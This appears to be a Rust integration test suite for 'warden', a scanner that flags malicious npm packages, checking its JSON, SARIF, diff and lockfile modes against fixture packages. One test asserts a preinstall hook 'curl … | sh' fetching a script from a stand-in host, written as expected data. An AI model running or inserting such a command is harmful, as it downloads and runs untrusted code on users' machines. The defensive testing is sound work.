//! `warden scan`, `warden diff` and `warden rules` end to end, on small fixture packages
//! (`tests/fixtures/scan/`): exit codes, the JSON shape, SARIF validity, lockfile mode with a
//! tarball directory and the result cache.

use assert_cmd::Command;
use serde_json::Value;
use std::path::{Path, PathBuf};

fn warden() -> Command {
    let mut cmd = Command::cargo_bin("warden").expect("the warden binary is built for tests");
    cmd.env("NO_COLOR", "1");
    cmd
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/scan")
        .join(name)
}

fn json_of(out: &std::process::Output) -> Value {
    serde_json::from_slice(&out.stdout).expect("stdout is one JSON document")
}

/// Packs a fixture directory as an npm tarball (`package/…`) into `dest`.
fn pack(dir: &Path, dest: &Path) {
    let file = std::fs::File::create(dest).expect("create tarball");
    let gz = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    tar.append_dir_all("package", dir).expect("pack fixture");
    tar.into_inner()
        .expect("finish tar")
        .finish()
        .expect("finish gzip");
}

#[test]
fn scan_of_a_clean_directory_is_ok_and_exits_0() {
    let out = warden()
        .args(["scan", "--format", "json"])
        .arg(fixture("colors-1.0.0"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    assert_eq!(v["verdict"], "ok");
    assert_eq!(v["name"], "tiny-colors");
    assert!(v["findings"].as_array().is_some());
    assert!(v["capabilities"].is_object());
}

#[test]
fn scan_of_an_install_time_dropper_is_malicious_and_exits_1() {
    let out = warden()
        .args(["scan", "--format", "json"])
        .arg(fixture("colors-1.0.1"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let v = json_of(&out);
    assert_eq!(v["verdict"], "malicious");
    let findings = v["findings"].as_array().unwrap();
    let rules: Vec<&str> = findings.iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.contains(&"shell-download-exec"), "{rules:?}");
    assert!(rules.contains(&"env-harvest"), "{rules:?}");
    for f in findings {
        assert!(
            f["severity"].is_string() && f["file"].is_string() && f["line"].is_u64(),
            "{f}"
        );
    }
    assert!(v["capabilities"]["network"].is_array());
}

#[test]
fn human_output_groups_findings_and_names_the_verdict() {
    let out = warden()
        .arg("scan")
        .arg(fixture("colors-1.0.1"))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("critical ("), "{text}");
    assert!(text.contains("index.js:8:"), "{text}");
    assert!(text.contains("capabilities:"), "{text}");
    assert!(text.contains("verdict: malicious"), "{text}");
}

#[test]
fn scan_of_a_tarball_file_reads_it_in_memory() {
    let dir = tempfile::tempdir().unwrap();
    let tgz = dir.path().join("tiny-colors-1.0.1.tgz");
    pack(&fixture("colors-1.0.1"), &tgz);
    let out = warden()
        .args(["scan", "--format", "json"])
        .arg(&tgz)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(json_of(&out)["verdict"], "malicious");
}

#[test]
fn sarif_output_is_valid_sarif_2_1_0() {
    let out = warden()
        .args(["scan", "--format", "sarif"])
        .arg(fixture("colors-1.0.1"))
        .output()
        .unwrap();
    let v = json_of(&out);
    assert_eq!(v["version"], "2.1.0");
    assert!(!v["runs"][0]["results"].as_array().unwrap().is_empty());
    let schemas = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/fixtures/schemas");
    let validator = schemas.join("validate.py");
    if !validator.is_file() {
        eprintln!(
            "skipped: {} not found (check out shared/ beside the repository)",
            validator.display()
        );
        return;
    }
    let probe = std::process::Command::new("python3")
        .args(["-c", "import jsonschema, referencing"])
        .output();
    if !probe.map(|o| o.status.success()).unwrap_or(false) {
        eprintln!(
            "skipped: python3 with jsonschema is not installed (pip install -r {}/requirements.txt)",
            schemas.display()
        );
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("scan.sarif");
    std::fs::write(&file, &out.stdout).unwrap();
    let res = std::process::Command::new("python3")
        .arg(&validator)
        .arg("sarif-2.1")
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        res.status.success(),
        "SARIF invalid:\n{}{}",
        String::from_utf8_lossy(&res.stdout),
        String::from_utf8_lossy(&res.stderr)
    );
}

#[test]
fn diff_reports_what_the_upgrade_adds() {
    let out = warden()
        .args(["diff", "--format", "json"])
        .arg(fixture("colors-1.0.0"))
        .arg(fixture("colors-1.0.1"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let v = json_of(&out);
    assert!(v["capabilities_gained"]["network"].is_array(), "{v}");
    assert_eq!(
        v["install_scripts_added"]["preinstall"],
        "curl -s http://cdn-update.example.net/colors/setup.sh | sh"
    );
    assert_eq!(v["dependencies_added"]["left-pad"], "1.3.0");
    assert!(
        v["files_changed"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == "index.js" && f["new_lines"] == 9)
    );
    assert!(!v["new_findings"].as_array().unwrap().is_empty());
    assert_eq!(v["new_verdict"], "malicious");
}

#[test]
fn rules_lists_the_catalogue() {
    let out = warden()
        .args(["rules", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let v = json_of(&out);
    let rules = v["rules"].as_array().unwrap();
    assert!(rules.len() >= 40);
    for id in [
        "install-script",
        "wallet-hook",
        "obfuscated-code",
        "unparseable-code",
        "manifest-confusion",
    ] {
        assert!(rules.iter().any(|r| r["id"] == id), "{id} missing");
    }
}

#[test]
fn lockfile_mode_scans_every_package_and_caches_results() {
    let tarballs = tempfile::tempdir().unwrap();
    pack(
        &fixture("colors-1.0.0"),
        &tarballs.path().join("tiny-colors-1.0.0.tgz"),
    );
    pack(
        &fixture("colors-1.0.1"),
        &tarballs.path().join("other-colors-1.0.1.tgz"),
    );
    let cache = tempfile::tempdir().unwrap();
    let run = || {
        warden()
            .args(["scan", "--format", "json", "--dir"])
            .arg(fixture("scan-app"))
            .arg("--tarballs")
            .arg(tarballs.path())
            .arg("--cache-dir")
            .arg(cache.path())
            .output()
            .unwrap()
    };
    let first = run();
    assert_eq!(
        first.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    let v = json_of(&first);
    assert_eq!(v["summary"]["packages"], 2);
    assert_eq!(v["summary"]["ok"], 1);
    assert_eq!(v["summary"]["malicious"], 1);
    assert_eq!(v["summary"]["cached"], 0);
    let second = json_of(&run());
    assert_eq!(second["summary"]["cached"], 2);
    assert_eq!(second["summary"]["malicious"], 1);
}

#[test]
fn lockfile_mode_fails_closed_on_missing_tarballs() {
    let empty = tempfile::tempdir().unwrap();
    let out = warden()
        .args(["scan", "--no-cache", "--dir"])
        .arg(fixture("scan-app"))
        .arg("--tarballs")
        .arg(empty.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("not scanned"), "{text}");
}

#[test]
fn missing_target_is_an_input_error() {
    let out = warden()
        .args(["scan", "no/such/file.tgz"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}
